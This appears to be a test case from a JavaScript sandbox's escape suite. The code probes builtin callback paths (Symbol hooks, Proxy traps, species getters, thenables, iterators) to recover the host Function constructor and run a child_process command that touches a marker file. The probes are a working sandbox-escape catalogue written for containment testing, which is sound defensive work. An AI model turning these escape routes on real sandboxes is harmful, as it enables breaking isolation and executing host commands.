// Tries: to reach the host's Function constructor (then process, then child_process) through every place a
// builtin calls program code internally: Symbol.replace/split/match/search, Symbol.toPrimitive, toJSON with a
// replacer, Proxy traps, thenables resolved by await, `this` in callbacks run by builtins, species getters,
// iterator protocols, and Object.getOwnPropertyDescriptor(Function.prototype, 'constructor').
// outcome: model
const marker = '__MARKER_DIR__/escaped';
const attempts = [];
function escape(where, F) {
  try {
    const g = F('return this')();
    const proc = g.process;
    const req = proc && (proc.mainModule ? proc.mainModule.require : g.require);
    if (typeof req !== 'function') { attempts.push(`${where}: contained`); return; }
    req('child_process').execSync(`touch ${marker}-${where}`);
    attempts.push(`${where}: ESCAPED`);
  } catch (e) {
    attempts.push(`${where}: contained (${e && e.name})`);
  }
}
const grab = (where) => function () { escape(where, this && this.constructor && this.constructor.constructor ? this.constructor.constructor : Function); return ''; };
'x'.replace({ [Symbol.replace]: grab('replace') });
'x'.split({ [Symbol.split]: grab('split') });
'x'.match({ [Symbol.match]: grab('match') });
'x'.search({ [Symbol.search]: grab('search') });
`${{ [Symbol.toPrimitive]: grab('toPrimitive') }}`;
JSON.stringify({ toJSON: grab('toJSON') }, function (k, v) { escape('replacer', this.constructor.constructor); return v; });
const proxy = new Proxy({}, { get(target, key, receiver) { escape('proxy', target.constructor.constructor); return undefined; } });
void proxy.anything;
[1].forEach(function () { escape('forEach-this', (this || {}).constructor ? this.constructor.constructor : Function); });
class Evil extends Array { static get [Symbol.species]() { escape('species', this.constructor); return Array; } }
new Evil(1, 2).map((x) => x);
Array.from({ [Symbol.iterator]() { escape('iterator', this.constructor.constructor); return [][Symbol.iterator](); } });
escape('descriptor', Object.getOwnPropertyDescriptor(Function.prototype, 'constructor').value);
escape('async-function', Object.getPrototypeOf(async function () {}).constructor);
(async () => {
  await { then(resolve) { escape('thenable', this.constructor.constructor); resolve(); } };
  console.log(attempts.join('\n'));
  console.log(attempts.some((a) => a.includes('ESCAPED')) ? 'ESCAPED' : 'all contained');
})();
